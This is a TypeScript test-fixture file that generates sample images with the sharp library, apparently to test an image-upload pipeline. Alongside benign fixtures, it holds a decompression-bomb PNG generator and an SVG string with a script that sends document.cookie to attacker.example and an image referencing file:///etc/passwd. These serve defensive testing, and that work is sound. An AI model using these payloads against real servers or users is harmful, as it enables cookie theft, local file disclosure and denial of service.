import sharp from 'sharp';

/** A solid-colour image in the given format. */
export function solid(format: 'png' | 'jpeg' | 'webp' | 'gif' | 'avif', width = 40, height = 30, colour = '#3366cc') {
  return sharp({ create: { width, height, channels: 3, background: colour } })
    [format]()
    .toBuffer();
}

/** A landscape JPEG whose EXIF says "rotate 90° clockwise to display", carrying a copyright note to be stripped. */
export function exifRotatedJpeg() {
  return sharp({ create: { width: 60, height: 20, channels: 3, background: '#00aa00' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({ IFD0: { Copyright: 'Private Photographer', Artist: 'Someone' } })
    .toBuffer();
}

/** A valid, complete 81-megapixel PNG of 230 KB: a decompression bomb for any server that decodes it. */
export function decompressionBomb() {
  return sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#000000' }, limitInputPixels: false })
    .png({ compressionLevel: 9 })
    .toBuffer();
}

export const SVG_WITH_SCRIPT = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch('https://attacker.example/steal?c=' + document.cookie)</script>
  <image href="file:///etc/passwd" width="100" height="100"/>
  <rect width="100" height="100" fill="red"/>
</svg>`;
